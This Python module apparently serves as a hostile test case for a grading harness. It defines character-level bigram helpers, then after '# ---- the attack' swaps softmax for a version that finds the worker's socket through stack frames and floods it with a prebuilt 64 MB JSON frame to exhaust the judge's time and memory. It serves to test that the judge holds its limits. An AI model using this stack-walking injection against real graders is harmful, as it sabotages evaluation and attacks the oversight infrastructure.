"""Hostile: softmax writes one frame of its own on the worker's channel (the socket, found in the worker's frames): 64 MB of JSON, '[[],[],...]', 22 million empty lists. The judge must not spend more than its limits on it (decoding that costs about 50 s and 1.7 GB). Expect softmax's checks to fail and the grading to end within its budget."""

import numpy as np

from mindlab_core.tokens import TOKENS, index

def softmax(logits):
    x = np.asarray(logits, dtype=np.float64)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)

def read_row(W, letter):
    return softmax(np.asarray(W)[index(letter)])

def data_row(counts, letter):
    row = np.asarray(counts, dtype=np.float64)[index(letter)]
    return row / row.sum()

def belief_gap(W, counts, letter):
    return float(0.5 * np.abs(read_row(W, letter) - data_row(counts, letter)).sum())

def ablate_column(W, letter):
    j = index(letter)
    out = np.array(W, dtype=np.float64)
    out[:, j] = -np.inf
    return out

def sample_word(W, rng, temperature=1.0, max_len=50):
    if not temperature > 0:
        raise ValueError("temperature must be > 0")
    W = np.asarray(W, dtype=np.float64)
    letters, row = [], 0
    while len(letters) < max_len:
        row = int(rng.choice(27, p=softmax(W[row] / temperature)))
        if row == 0:
            break
        letters.append(TOKENS[row])
    return "".join(letters)

def rank_rules(W, top=None):
    probs = softmax(np.asarray(W, dtype=np.float64))
    best = probs.argmax(axis=1)
    rules = [(TOKENS[i], TOKENS[int(j)], float(probs[i, j])) for i, j in enumerate(best)]
    rules.sort(key=lambda rule: -rule[2])
    return rules if top is None else rules[:top]

def greedy_decode(W, max_len=50):
    probs = softmax(np.asarray(W, dtype=np.float64))
    letters, row = [], 0
    while len(letters) < max_len:
        row = int(probs[row].argmax())
        if row == 0:
            break
        letters.append(TOKENS[row])
    return "".join(letters)


# ---- the attack
import struct
import sys

_honest_softmax = softmax


def _channel():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if me is not None and hasattr(me, "sock") and hasattr(me, "namespace"):
            return me.sock
        frame = frame.f_back
    return None


_count = (64 * 2**20 - 100) // 3  # built at import: the call itself only sends it
_header = b'{"tree": [' + b"[]," * (_count - 1) + b'[]], "sizes": []}'
_FRAME = struct.pack("<Q", len(_header) + 4) + struct.pack("<I", len(_header)) + _header
del _header


def softmax(logits):
    sock = _channel()
    if sock is not None:
        sock.sendall(_FRAME)
    return _honest_softmax(logits)
